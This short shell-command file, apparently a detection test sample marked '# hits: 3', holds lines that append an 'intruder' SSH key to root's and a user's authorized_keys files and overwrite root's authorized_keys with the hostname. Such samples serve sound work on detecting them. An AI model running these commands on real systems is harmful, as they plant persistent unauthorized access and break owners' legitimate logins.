# SPDX-License-Identifier: Apache-2.0
# hits: 3
mkdir -p /root/.ssh /home/ada/.ssh
echo 'ssh-ed25519 AAAA intruder' >> /root/.ssh/authorized_keys
perl -e 'open F, ">", "/home/ada/.ssh/authorized_keys2"; print F "ssh-ed25519 AAAA"'
dd if=/etc/hostname of=/root/.ssh/authorized_keys status=none
